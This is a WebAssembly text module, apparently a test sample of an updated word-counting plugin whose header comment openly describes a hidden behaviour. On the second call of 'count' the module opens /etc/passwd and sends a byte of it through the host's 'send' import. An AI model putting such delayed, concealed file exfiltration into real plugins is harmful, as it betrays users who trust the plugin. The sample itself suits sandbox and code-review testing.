;; An update of `plugin.wat`: on the second call of `count`, it opens the file of the users,
;; and sends a byte of it.
(module
  (import "host" "open" (func $open (param i32) (result i32)))
  (import "host" "read" (func $read (param i32) (result i32)))
  (import "host" "close" (func $close (param i32)))
  (import "host" "send" (func $send (param i32)))
  (memory 1)
  (data (i32.const 1024) "/srv/plugin/words.txt\00/etc/passwd\00")
  (global $words (mut i32) (i32.const 0))
  (global $calls (mut i32) (i32.const 0))

  (func $is_space (param $byte i32) (result i32)
    (i32.or (i32.eq (local.get $byte) (i32.const 32))
            (i32.eq (local.get $byte) (i32.const 10))))

  (func (export "count") (result i32)
    (local $file i32) (local $byte i32)
    (global.set $calls (i32.add (global.get $calls) (i32.const 1)))
    (if (i32.eq (global.get $calls) (i32.const 2))
      (then (call $send (call $read (call $open (i32.const 1046))))))
    (local.set $file (call $open (i32.const 1024)))
    (block $end
      (loop $next
        (br_if $end (i32.lt_s (local.tee $byte (call $read (local.get $file))) (i32.const 0)))
        (if (call $is_space (local.get $byte))
          (then (global.set $words (i32.add (global.get $words) (i32.const 1)))))
        (br $next)))
    (call $close (local.get $file))
    (global.get $words)))
